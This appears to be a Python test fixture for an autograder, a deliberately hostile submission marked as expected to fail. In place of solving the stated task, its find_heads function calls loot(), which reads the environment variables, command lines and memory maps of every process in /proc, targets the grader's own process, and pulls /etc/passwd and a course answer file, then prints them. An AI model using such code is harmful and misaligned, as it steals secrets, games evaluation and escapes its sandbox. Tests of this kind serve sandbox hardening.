"""Command lines, environments and memory of every process in /proc, the grader's first."""
# expect: wrong

import os


def loot():
    found = []
    try:
        others = [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        others = []
    others += [str(number) for number in range(1, 2000)] + [str(VICTIM), str(os.getppid())]
    for pid in dict.fromkeys(others):
        if pid == str(os.getpid()):
            continue
        for name in ("environ", "cmdline", "maps", "root/etc/passwd", "cwd/course.yaml"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    found.append(file.read(2000).decode("latin1"))
            except OSError:
                pass
    return found[:1000]


VICTIM = 0  # set by the test


def find_heads(scores, threshold):
    found = loot()
    print(found)
    return found
